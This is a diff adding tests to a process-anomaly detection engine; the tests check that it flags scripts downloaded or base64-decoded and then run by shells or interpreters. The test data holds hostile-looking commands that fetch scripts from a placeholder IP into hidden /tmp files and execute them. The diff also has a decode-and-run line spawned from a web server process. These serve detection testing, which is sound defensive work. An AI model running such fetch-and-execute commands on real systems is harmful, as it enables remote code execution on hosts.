@@ -9,9 +9,10 @@ from hypothesis import strategies as st
 from core.event import ProcessEvent
 from scoring import chains
 from scoring.chains import ChainTracker
+from scoring.commands import Command
 from scoring.config import EngineConfig
 from scoring.engine import AnomalyEngine
-from scoring.sequences import resolve
+from scoring.sequences import resolve, script_file
 
 HOST = "web-1"
 
@@ -239,6 +240,40 @@ def test_a_script_that_copies_chmods_and_runs_a_temp_binary_alerts_on_its_own(en
     verdict = _score(engine, [event])[0]
     assert verdict.severity == "alert"
     assert any("earlier in the same script" in r for r in verdict.reasons), verdict.reasons
+
+
+def test_a_downloaded_script_run_by_an_interpreter_is_the_download_run(engine):
+    """`sh x.sh` and `python3 /tmp/a.py` run the file as much as `./x` does: the chain follows the script."""
+    session = Session()
+    events = [session.exec("wget -q -O /tmp/.u.sh http://203.0.113.9/u", 100, "bash"),
+              session.exec("bash -x /tmp/.u.sh", 100, "bash"),
+              session.exec("curl -s -o helper.py http://203.0.113.9/h", 100, "bash"),
+              session.exec("python3 -u helper.py --quiet", 100, "bash")]
+    verdicts = _score(engine, events)
+    assert any(r.startswith("runs /tmp/.u.sh, downloaded by wget") for r in verdicts[1].reasons), verdicts[1]
+    assert verdicts[1].severity == "alert" and verdicts[1].incident == verdicts[0].incident != ""
+    assert any(r.startswith("runs /home/u/helper.py, downloaded by curl") for r in verdicts[3].reasons), verdicts[3]
+
+
+def test_a_script_that_decodes_a_file_and_runs_it_with_sh_alerts_on_its_own(engine):
+    session = Session()
+    event = session.exec("sh -c x", 400, "php-fpm")
+    event.command_args = ("sh", "-c", "echo ZWNobyBoaQo= | base64 -d > /tmp/.a; sh /tmp/.a")
+    verdict = _score(engine, [event])[0]
+    assert verdict.severity == "alert"
+    assert any(r.startswith("runs /tmp/.a, decoded by base64 earlier in the same script") for r in verdict.reasons), \
+        verdict.reasons
+
+
+@pytest.mark.parametrize(("line", "script"), [
+    ("sh /tmp/.a", "/tmp/.a"), ("bash -x -o pipefail run.sh arg", "run.sh"), ("sh -e -- /tmp/y", "/tmp/y"),
+    ("python3 -u -W ignore /tmp/a.py x", "/tmp/a.py"), ("php -f x.php", "x.php"), ("perl -I lib x.pl", "x.pl"),
+    ("node --require m app.js", "app.js"), ("source ./env.sh", "./env.sh"), (". /tmp/x", "/tmp/x"),
+    ("bash -lc ./x", ""), ("python3 -c import os", ""), ("python3 -m http.server", ""), ("php -r echo", ""),
+    ("ruby -rsocket -e x", ""), ("bash -s", ""), ("sh -", ""), ("bash", ""), ("busybox wget x", ""), ("ls /tmp/x", ""),
+])
+def test_the_script_a_shell_or_interpreter_runs(line, script):
+    assert script_file(Command(tuple(line.split()))) == script
 
 
 def test_descendants_of_an_alert_join_its_incident(engine):
